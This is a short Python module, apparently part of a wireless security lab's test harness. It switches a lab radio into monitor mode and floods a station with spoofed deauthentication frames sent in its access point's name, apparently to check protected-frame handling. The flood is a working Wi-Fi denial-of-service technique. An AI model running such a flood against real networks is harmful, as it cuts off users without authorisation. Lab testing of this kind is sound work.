"""A flood of farewells in an access point's name, from a radio that does nothing but listen and send such frames."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

from lab.probe.air import craft
from lab.verify.session import LabSession
from lab.verify.wireless.hosts import OnAir

ATTACKER, INTERFACE = "attacker", "wlan"
TIMES = 60
REASON = (
    7  # class 3 frame from a station that is not associated: the one that makes a protected station ask back (SA Query)
)
# beside another interface a radio sends in its own name alone: it becomes a monitor and nothing else
_AS_MONITOR = (
    "ip link set wlan down && iw dev wlan set type monitor && ip link set wlan up && iw dev wlan set channel 6"
)
_AS_BEFORE = "ip link set wlan down; iw dev wlan set type managed; ip link set wlan up"


@contextmanager
def attacker(session: LabSession) -> Iterator[OnAir]:
    """The attacker's radio, ready to send in anybody's name while the block runs."""
    host = OnAir(session, ATTACKER)
    host.run(f"/usr/local/sbin/station stop; {_AS_MONITOR}")
    try:
        yield host
    finally:
        host.channel.run(_AS_BEFORE, timeout=60)


def farewells(host: OnAir, station: str, bssid: str) -> None:
    """Send a station TIMES deauthentications in the name of its access point, in clear."""
    craft.flood(host.channel, INTERFACE, craft.deauthentication(station, bssid, bssid, REASON), TIMES)
